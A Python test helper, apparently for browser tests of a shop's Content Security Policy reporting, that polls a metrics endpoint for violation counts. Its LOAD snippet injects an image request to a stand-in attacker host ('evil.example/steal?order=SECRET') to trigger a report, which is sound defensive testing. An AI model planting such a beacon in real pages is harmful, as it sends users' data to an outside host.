"""What browsers told a shop of their refusals, as a monitor reads it."""

import requests
from playwright.sync_api import Page

#: How often the figures are read until one has risen, and the milliseconds in between.
LOOKS, PAUSE = 100, 100

#: Has a page ask a stranger for a picture.
LOAD = """() => {
  const picture = document.createElement("img")
  picture.src = "https://evil.example/steal?order=SECRET"
  document.body.append(picture)
}"""


class Reports:
    """The counts of one shop."""

    def __init__(self, url: str, *, host: str | None = None, authority: str | None = None) -> None:
        self._url = url
        self._headers = {"Host": host} if host else {}
        self._verify = authority or True

    def counts(self) -> dict[str, float]:
        """How often each directive was reported."""
        answer = requests.get(
            f"{self._url}/metrics", headers=self._headers, verify=self._verify, timeout=10
        )
        lines = [line for line in answer.text.splitlines() if line.startswith("shop_csp_reports{")]
        return {line.split('"')[1]: float(line.split()[-1]) for line in lines}

    def rise(self, page: Page, directive: str, before: dict[str, float]) -> bool:
        """Wait until the count of a directive is more than it was: whether it came to that."""
        for _ in range(LOOKS):
            if self.counts().get(directive, 0) > before.get(directive, 0):
                return True
            page.wait_for_timeout(PAUSE)  # the browser goes on meanwhile
        return False
